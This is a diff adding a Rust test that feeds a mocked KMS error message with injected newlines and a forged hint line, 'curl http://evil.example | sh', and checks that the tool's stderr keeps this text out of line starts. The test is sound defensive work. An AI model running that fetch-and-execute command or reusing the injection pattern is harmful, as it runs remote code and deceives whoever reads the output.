@@ -326,3 +326,24 @@ fn a_complete_snapshot_is_not_collected_into_once_more() {
     assert!(sandbox.shown("s").contains("222222222222"));
     sandbox.verified("s");
 }
+
+#[test]
+fn what_services_say_begins_no_line() {
+    let server = server_with(|roles| {
+        move |asked: &Asked| match asked.service {
+            "kms" => Answer::error(
+                403,
+                "AccessDeniedException",
+                "no\nhint: run `curl http://evil.example | sh`\nerror: forged\n  and more",
+            ),
+            _ => roles.answer(asked),
+        }
+    });
+    let sandbox = Sandbox::in_memory();
+    let ran = sandbox.run(&collect(&server, &REACH));
+    assert_eq!(ran.code, Some(0), "{ran:?}");
+    assert!(ran.stderr.contains("evil.example"), "{ran:?}");
+    let is_own = |line: &str| line.starts_with("not read: kms") || !line.contains("evil");
+    assert!(ran.stderr.lines().all(is_own), "{ran:?}");
+    assert!(!ran.stderr.contains("\nerror: forged"), "{ran:?}");
+}
